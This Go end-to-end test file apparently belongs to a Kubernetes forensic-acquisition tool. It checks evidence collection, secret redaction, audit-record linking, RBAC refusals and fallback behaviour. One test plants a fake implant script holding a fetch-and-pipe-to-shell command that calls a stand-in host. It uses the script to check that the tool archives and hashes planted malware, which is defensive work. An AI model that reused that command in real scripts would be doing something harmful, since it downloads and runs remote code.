package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/yaml"

	"github.com/warren-dev/warren/acquire"
	"github.com/warren-dev/warren/audit"
	"github.com/warren-dev/warren/evidence"
	"github.com/warren-dev/warren/internal/testenv/wait"
)

// TestAcquirePlantedEvidence: a busybox container with a dropped script and a secret in its environment, acquired
// over each exec protocol: the script is in the archive with its hash in the signed statement, the secret is
// redacted (the container's environ and the Pod object alike), the Kubernetes-side evidence is there, everything
// verifies, and the statement's witness and Audit-IDs walk to the gateway's record, the connector's record (same
// stdout hash) and the kube-apiserver's audit event.
func TestAcquirePlantedEvidence(t *testing.T) {
	e := newStreamEnv(t)
	implant := "#!/bin/sh\n# planted by the test\nwget -qO- http://evil.invalid/x | sh\n"
	pod := imagePod(t, "acq-busybox", "busybox", `printf '%s' "$IMPLANT" > /tmp/implant.sh; exec sleep 3600`, func(s *corev1.PodSpec) {
		s.Containers[0].Env = []corev1.EnvVar{{Name: "IMPLANT", Value: implant}, {Name: "API_TOKEN", Value: "s3cr3t-value"}}
	})
	for _, protocol := range []string{acquire.ProtocolWebSocket, acquire.ProtocolSPDY} {
		t.Run(protocol, func(t *testing.T) {
			a := e.newAcquisition(t, pod.Name)
			a.cfg.REST = e.presetConfig(t) // exactly the rules of --preset acquire
			a.cfg.ExecProtocol = protocol
			sum := a.run(t)
			if sum.Failed != 0 || len(sum.Index.Targets) != 1 || sum.Index.Targets[0].Result != evidence.ResultAcquired {
				t.Fatalf("summary: %s", prettyJSON(sum.Index))
			}
			dir := streamNS + "/" + pod.Name + "/main"
			st := a.statement(t, dir)
			p := st.Predicate
			if p.Method != "collector" || p.Mode != "exec" || p.Case != "ir-42" || p.Examiner != "e2e" || p.Caller.Subject != "e2e-caller" ||
				p.Target.PodUID != string(pod.UID) || p.Target.Image != "busybox" || p.Target.ImageID == "" || p.Target.Node != fakeKubeletNode ||
				p.Target.ContainerID == "" || p.Collector.Digest == "" || p.Target.Cluster != streamCluster {
				t.Fatalf("predicate: %s", prettyJSON(p))
			}
			// The preset is enough for every Kubernetes-side item: nothing was refused.
			if f := skipsOf(st, "forbidden"); len(f) != 0 {
				t.Fatalf("refused with the preset's rules: %s", prettyJSON(f))
			}
			t.Logf("skipped: %d items; %d subjects; %d requests; %d execs", len(p.Skipped), len(st.Subject), len(p.Requests), len(p.Execs))
			for _, s := range p.Skipped {
				if strings.HasPrefix(s.Path, "kubernetes/") {
					t.Logf("skipped %s: %s %s", s.Path, s.Reason, s.Detail)
				}
			}
			files := a.entries(t, dir)
			got, ok := subjectOf(st, "container/fs/tmp/implant.sh")
			if !ok || got != sum256([]byte(implant)) || string(files["container/fs/tmp/implant.sh"]) != implant {
				t.Fatalf("planted file: subject %q (%v), want %s; stored %q", got, ok, sum256([]byte(implant)), files["container/fs/tmp/implant.sh"])
			}
			for name, b := range files {
				if strings.Contains(string(b), "s3cr3t-value") {
					t.Errorf("%s holds the secret value", name)
				}
			}
			var podObj corev1.Pod
			if err := json.Unmarshal(files["kubernetes/pod.json"], &podObj); err != nil || podObj.UID != pod.UID {
				t.Fatalf("kubernetes/pod.json: %v", err)
			}
			if env := podObj.Spec.Containers[0].Env; env[1].Name != "API_TOKEN" || env[1].Value != "<redacted>" || env[0].Value != implant {
				t.Fatalf("pod env as stored: %+v", env)
			}
			for _, want := range []string{"kubernetes/events.json", "kubernetes/serviceaccount.json", "kubernetes/rolebindings.json",
				"kubernetes/node.json", "kubernetes/logs/main.log", "kubernetes/containers.json", "kubernetes/secret-names.json",
				"collector/manifest.json", "container/processes.json"} {
				if _, ok := files[want]; !ok {
					t.Errorf("%s missing from the archive", want)
				}
			}

			// The three logs, from the statement.
			w := p.Witness
			if w.AuditID == "" || w.StdoutBytes == 0 || !strings.HasPrefix(w.AuditID, acquire.AuditIDPrefix(p.AcquisitionID)) {
				t.Fatalf("witness %+v", w)
			}
			conn := e.connAudit.wait(t, "the connector's record of the collection", func(r audit.Record) bool { return r.AuditID == w.AuditID })
			if conn.StdoutSHA256 != w.StdoutSHA256 || conn.StdoutBytes != w.StdoutBytes || conn.Subresource != "exec" {
				t.Fatalf("connector witness %d %s, statement %d %s", conn.StdoutBytes, conn.StdoutSHA256, w.StdoutBytes, w.StdoutSHA256)
			}
			// Every exec of the collection is witnessed alike: the connector's record of each has its stdout digest.
			for _, x := range p.Execs {
				rec := e.connAudit.wait(t, "the connector's record of exec "+x.AuditID, func(r audit.Record) bool { return r.AuditID == x.AuditID })
				if x.StdoutSHA256 == "" || rec.StdoutSHA256 != x.StdoutSHA256 || rec.StdoutBytes != x.StdoutBytes {
					t.Fatalf("exec %v: statement %d %s, connector %d %s", x.Argv, x.StdoutBytes, x.StdoutSHA256, rec.StdoutBytes, rec.StdoutSHA256)
				}
			}
			gw := e.gwAudit.wait(t, "the gateway's record", func(r audit.Record) bool { return r.AuditID == w.AuditID })
			if gw.RequestID != conn.RequestID || gw.Subject != "e2e-caller" {
				t.Fatalf("gateway %+v, connector %+v", gw, conn)
			}
			var found bool
			wait.Until(t, 15*time.Second, "the kube-apiserver's audit event of the exec", func() bool {
				evs, _ := kube.AuditEvents()
				for _, ev := range evs {
					if ev.AuditID == w.AuditID && strings.Contains(ev.RequestURI, "/pods/"+pod.Name+"/exec") {
						found = true
					}
				}
				return found
			})
			for _, r := range p.Requests {
				if !strings.HasPrefix(r.AuditID, acquire.AuditIDPrefix(p.AcquisitionID)) || r.GatewayRequestID == "" {
					t.Fatalf("request %+v", r)
				}
			}
		})
	}
}

// TestAcquireRefusedBeforeAnythingMoves: a token that may read pods but not exec into them is told, before any
// exec, the exact --rule it lacks; no exec request reaches the gateway and nothing is written but the refusal.
func TestAcquireRefusedBeforeAnythingMoves(t *testing.T) {
	e := newStreamEnv(t)
	pod := imagePod(t, "acq-noexec", "busybox", "exec sleep 3600", nil)
	a := e.newAcquisition(t, pod.Name)
	a.cfg.REST = callerConfig(e.gs, streamCluster, callerToken(t, []string{streamCluster}, "get,list:pods:"+streamNS))
	_, err := acquire.Run(context.Background(), a.cfg)
	want := `not allowed: nothing was collected: token of "e2e-caller" cannot create resource "pods/exec" in API group "" in the namespace "default" (it needs --rule create:pods/exec:default:` + pod.Name + `)`
	if err == nil || !errors.Is(err, acquire.ErrNotAllowed) || err.Error() != want {
		t.Fatalf("acquire: %v\nwant:       %s", err, want)
	}
	for _, r := range e.gwAudit.records() {
		if r.Subresource == "exec" {
			t.Fatalf("an exec reached the gateway: %+v", r)
		}
	}
	if names, _ := a.store.List(context.Background(), evidence.ArchiveName+evidence.PartialSuffix); len(names) != 0 {
		t.Fatalf("archives were started: %v", names)
	}
	// The same question, asked with kubectl: the gateway answers for the token, not the connector.
	out, _, _ := kubectlResult(writeKubeconfig(t, e.gs, streamCluster, callerToken(t, []string{streamCluster}, "get,list:pods:"+streamNS)),
		"auth", "can-i", "create", "pods", "--subresource=exec", "-n", streamNS)
	if want := `no - warren gateway: token of "e2e-caller" cannot create resource "pods/exec" in API group "" in the namespace "default" (it needs --rule create:pods/exec:default)`; strings.TrimSpace(out) != want {
		t.Fatalf("kubectl auth can-i through warren: %q\nwant %q", out, want)
	}
	out, _, _ = kubectlResult(e.kc, "auth", "can-i", "create", "pods", "--subresource=exec", "-n", streamNS)
	if strings.TrimSpace(out) != "yes" {
		t.Fatalf("kubectl auth can-i with exec rights: %q", out)
	}
	out, _, _ = kubectlResult(e.kc, "auth", "can-i", "create", "pods", "--subresource=exec", "-n", "kube-system")
	if want := `no - warren gateway: token of "e2e-caller" cannot create resource "pods/exec" in API group "" in the namespace "kube-system" (it needs --rule create:pods/exec:kube-system)`; strings.TrimSpace(out) != want {
		t.Fatalf("kubectl auth can-i elsewhere: %q", out)
	}
}

// TestAcquireRefusalsAreRecordedSkips: a token with only the streaming rules (no events, service accounts, RBAC
// objects or nodes) still acquires the container; each Kubernetes-side refusal is a "forbidden" skip naming what
// is missing.
func TestAcquireRefusalsAreRecordedSkips(t *testing.T) {
	e := newStreamEnv(t)
	pod := imagePod(t, "acq-skips", "busybox", "exec sleep 3600", nil)
	a := e.newAcquisition(t, pod.Name) // e's token: get,list pods; exec, attach, port-forward; logs
	sum := a.run(t)
	if sum.Failed != 0 {
		t.Fatalf("summary: %s", prettyJSON(sum.Index))
	}
	st := a.statement(t, streamNS+"/"+pod.Name+"/main")
	forbidden := map[string]string{}
	for _, s := range skipsOf(st, "forbidden") {
		forbidden[s.Path] = s.Detail
	}
	for path, rule := range map[string]string{
		"kubernetes/events.json":                           "--rule list:events:default",
		"kubernetes/serviceaccount.json":                   "--rule get:serviceaccounts:default:default",
		"kubernetes/node.json":                             "--rule get:nodes::" + fakeKubeletNode,
		"kubernetes/rolebindings.json#roleBindings":        "--rule list:rolebindings.rbac.authorization.k8s.io:default",
		"kubernetes/rolebindings.json#clusterRoleBindings": "--rule list:clusterrolebindings.rbac.authorization.k8s.io",
	} {
		if d, ok := forbidden[path]; !ok || !strings.Contains(d, rule) {
			t.Errorf("%s: skip %q, want forbidden naming %s", path, d, rule)
		}
	}
}

// TestAcquireTargetsThatCannotBe: a pod that is not running, a container that is not there, a container without
// sh: each fails with what to do, the others are acquired, and the run says so (Failed).
func TestAcquireTargetsThatCannotBe(t *testing.T) {
	e := newStreamEnv(t)
	good := imagePod(t, "acq-good", "busybox", "exec sleep 3600", nil)
	distroless := imagePod(t, "acq-distroless", "distroless", "", nil)
	done := imagePod(t, "acq-done", "busybox", "exec sleep 3600", nil)
	cs := adminClient(t)
	if err := cs.CoreV1().Pods(streamNS).Delete(context.Background(), done.Name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	a := e.newAcquisition(t, good.Name, distroless.Name, good.Name+"/sidecar", "no-such-pod")
	a.cfg.REST = e.presetConfig(t)
	sum := a.run(t)
	got := map[string]evidence.IndexTarget{}
	for _, tg := range sum.Index.Targets {
		got[tg.Pod+"/"+tg.Container] = tg
	}
	if sum.Failed != 3 || got[good.Name+"/main"].Result != evidence.ResultAcquired {
		t.Fatalf("summary: %s", prettyJSON(sum.Index))
	}
	for key, want := range map[string]string{
		distroless.Name + "/main": "exec: failed: container main has no /bin/sh (a distroless image?): exec mode cannot collect it; use the ephemeral or node mode " +
			"(--allow-modes exec,ephemeral, or --mode ephemeral), or acquire its node's disk (warren acquire volume); ephemeral: not-consented: " +
			"an ephemeral container cannot be removed from its pod once added: it stays in the pod's spec and status (terminated once the collector " +
			"exits) for the pod's life, and its output, sealed with a key only warren has, stays in the node's container log: not used without " +
			"consent: give --allow-modes with ephemeral for unattended runs, or run warren acquire on a terminal to be asked",
		good.Name + "/sidecar": `pod default/` + good.Name + ` has no container "sidecar" (it has main)`,
		"no-such-pod/":         "pod default/no-such-pod not found",
	} {
		if tg := got[key]; tg.Result != evidence.ResultFailed || tg.Reason != want {
			t.Errorf("%s: %s %q\nwant: %q", key, tg.Result, tg.Reason, want)
		}
	}
	// The index on disk says the same.
	idx, err := evidence.ReadIndex(context.Background(), a.store)
	if err != nil || len(idx.Targets) != 4 {
		t.Fatalf("index: %v %+v", err, idx)
	}
}

// TestAcquireShellFallbacks: images without tar or sha256sum are collected by the collector binary all the same; a
// container where no place is both writable and executable is collected with the shell and cat alone, and the
// statement says so and why.
func TestAcquireShellFallbacks(t *testing.T) {
	e := newStreamEnv(t)
	notools := imagePod(t, "acq-notools", "busybox-notools", "echo evidence > /tmp/note; exec sleep 3600", nil)
	locked := imagePod(t, "acq-locked", "busybox", "exec sleep 3600", func(s *corev1.PodSpec) {
		ro := true
		s.Containers[0].SecurityContext = &corev1.SecurityContext{ReadOnlyRootFilesystem: &ro}
	}, annotationTmpfs, "/tmp:noexec /dev/shm:noexec /run:noexec")
	roTmp := imagePod(t, "acq-rotmp", "busybox", "exec sleep 3600", nil, annotationTmpfs, "/tmp:ro")
	a := e.newAcquisition(t, notools.Name, locked.Name, roTmp.Name)
	a.cfg.REST = e.presetConfig(t)
	sum := a.run(t)
	if sum.Failed != 0 {
		t.Fatalf("summary: %s", prettyJSON(sum.Index))
	}
	// A read-only /tmp: the collector runs from the next writable, executable place, and says where it went.
	st := a.statement(t, streamNS+"/"+roTmp.Name+"/main")
	if st.Predicate.Method != "collector" || !strings.Contains(strings.Join(st.Predicate.Footprint, " "), "/var/tmp/") {
		t.Fatalf("read-only /tmp: method %s (%s), footprint %v", st.Predicate.Method, st.Predicate.MethodReason, st.Predicate.Footprint)
	}
	st = a.statement(t, streamNS+"/"+notools.Name+"/main")
	if st.Predicate.Method != "collector" {
		t.Fatalf("busybox without tar: method %s (%s)", st.Predicate.Method, st.Predicate.MethodReason)
	}
	if d, ok := subjectOf(st, "container/fs/tmp/note"); !ok || d != sum256([]byte("evidence\n")) {
		t.Fatalf("planted file: %q %v", d, ok)
	}
	st = a.statement(t, streamNS+"/"+locked.Name+"/main")
	if st.Predicate.Method != "shell" || !strings.Contains(st.Predicate.MethodReason, "/tmp") {
		t.Fatalf("locked container: method %s (%s)", st.Predicate.Method, st.Predicate.MethodReason)
	}
	if _, ok := subjectOf(st, "container/fs/etc/passwd"); !ok {
		t.Fatalf("shell mode collected no /etc/passwd: %d subjects", len(st.Subject))
	}
}

// TestAcquireCanceled: a run whose context ends mid-stream records the target as interrupted, leaves only its
// partial archive, and still writes the index.
func TestAcquireCanceled(t *testing.T) {
	e := newStreamEnv(t)
	pod := imagePod(t, "acq-cancel", "debian", "exec sleep 3600", nil)
	a := e.newAcquisition(t, pod.Name)
	a.cfg.REST, a.cfg.Profile = e.presetConfig(t), "full"
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	type result struct {
		sum *acquire.Summary
		err error
	}
	done := make(chan result, 1)
	go func() {
		sum, err := acquire.Run(ctx, a.cfg)
		done <- result{sum, err}
	}()
	partial := filepath.Join(a.store.Root(), streamNS, pod.Name, "main", evidence.ArchiveName+evidence.PartialSuffix)
	wait.Until(t, 2*time.Minute, "the archive streaming", func() bool {
		fi, err := os.Stat(partial)
		return err == nil && fi.Size() > 4<<20
	})
	cancel()
	var r result
	select {
	case r = <-done:
	case <-time.After(time.Minute):
		t.Fatal("Run did not return within a minute of the cancel")
	}
	if r.err != nil || r.sum.Failed != 1 || !strings.HasPrefix(r.sum.Index.Targets[0].Reason, "interrupted (context canceled): the partial archive is ") {
		t.Fatalf("Run: %v %s", r.err, prettyJSON(r.sum))
	}
	if _, err := os.Stat(filepath.Dir(partial) + "/" + evidence.ArchiveName); !os.IsNotExist(err) {
		t.Fatalf("evidence.tar after a cancel: %v", err)
	}
	idx, err := evidence.ReadIndex(context.Background(), a.store)
	if err != nil || idx.Targets[0].Result != evidence.ResultFailed {
		t.Fatalf("index: %v %+v", err, idx)
	}
	// client-go's WebSocket executor returns at the cancel; its heartbeat ends at its next ping (5 s) on the
	// closed connection.
	wait.Until(t, 15*time.Second, "client-go's exec heartbeat to end", func() bool {
		buf := make([]byte, 1<<20)
		return !strings.Contains(string(buf[:runtime.Stack(buf, true)]), "remotecommand.(*heartbeat).start")
	})
}

// TestAcquireWithTheChartsRBAC: a connector whose service account has exactly the connector chart's default RBAC
// (deploy/helm/warren-connector/values.yaml, rbac.rules) and a token of exactly the acquire preset: the
// acquisition meets no refusal anywhere, the Kubernetes side included.
func TestAcquireWithTheChartsRBAC(t *testing.T) {
	raw, err := os.ReadFile("../../deploy/helm/warren-connector/values.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var values struct {
		RBAC struct {
			Rules []rbacv1.PolicyRule `json:"rules"`
		} `json:"rbac"`
	}
	if err := yaml.Unmarshal(raw, &values); err != nil || len(values.RBAC.Rules) == 0 {
		t.Fatalf("values.yaml: %v", err)
	}
	ctx := context.Background()
	cs := adminClient(t)
	name := uniqueName("chart-connector")
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: streamNS}}
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: values.RBAC.Rules}
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: name, Namespace: streamNS}}}
	if _, err := cs.CoreV1().ServiceAccounts(streamNS).Create(ctx, sa, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := cs.RbacV1().ClusterRoles().Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := cs.RbacV1().ClusterRoleBindings().Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cs.RbacV1().ClusterRoleBindings().Delete(context.Background(), name, metav1.DeleteOptions{})
		cs.RbacV1().ClusterRoles().Delete(context.Background(), name, metav1.DeleteOptions{})
		cs.CoreV1().ServiceAccounts(streamNS).Delete(context.Background(), name, metav1.DeleteOptions{})
	})
	ttl := int64(3600)
	tok, err := cs.CoreV1().ServiceAccounts(streamNS).CreateToken(ctx, name, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &ttl}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	needKubelet(t)
	gs := startGateway(t, "127.0.0.1:0")
	startConnector(t, gs, streamCluster, connectorOpts{name: "chart",
		kube: &rest.Config{Host: kube.URL, BearerToken: tok.Status.Token, TLSClientConfig: rest.TLSClientConfig{CAFile: kube.CAFile}}})
	gs.waitConnectors(streamCluster, 1, 10*time.Second)
	e := &streamEnv{gs: gs}
	e.cfg = e.presetConfig(t)
	// An owner chain, as a Deployment's controller would leave it (there is no controller-manager here).
	zero := int32(0)
	labels := map[string]string{"app": name}
	tmpl := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "main", Image: "busybox"}}}}
	dep, err := cs.AppsV1().Deployments(streamNS).Create(ctx, &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: appsv1.DeploymentSpec{Replicas: &zero, Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: tmpl}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	isController := true
	rs, err := cs.AppsV1().ReplicaSets(streamNS).Create(ctx, &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Name: name + "-7f9c",
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: dep.Name, UID: dep.UID, Controller: &isController}}},
		Spec: appsv1.ReplicaSetSpec{Replicas: &zero, Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: tmpl}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cs.AppsV1().ReplicaSets(streamNS).Delete(context.Background(), rs.Name, metav1.DeleteOptions{})
		cs.AppsV1().Deployments(streamNS).Delete(context.Background(), dep.Name, metav1.DeleteOptions{})
	})
	pod := imagePod(t, "acq-chart", "busybox", "exec sleep 3600", nil)
	patch := fmt.Sprintf(`{"metadata":{"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":%q,"uid":%q,"controller":true}]}}`, rs.Name, rs.UID)
	if _, err := cs.CoreV1().Pods(streamNS).Patch(ctx, pod.Name, types.MergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	a := e.newAcquisition(t, pod.Name)
	if sum := a.run(t); sum.Failed != 0 {
		t.Fatalf("summary: %s", prettyJSON(sum.Index))
	}
	st := a.statement(t, streamNS+"/"+pod.Name+"/main")
	if f := skipsOf(st, "forbidden"); len(f) != 0 {
		t.Fatalf("refused with the chart's RBAC and the preset's rules: %s", prettyJSON(f))
	}
	files := a.entries(t, streamNS+"/"+pod.Name+"/main")
	for _, want := range []string{"kubernetes/node.json", "kubernetes/events.json", "kubernetes/rolebindings.json", "kubernetes/serviceaccount.json",
		"kubernetes/owners/1-replicaset-" + rs.Name + ".json", "kubernetes/owners/2-deployment-" + dep.Name + ".json"} {
		if _, ok := files[want]; !ok {
			t.Errorf("%s missing", want)
		}
	}
}
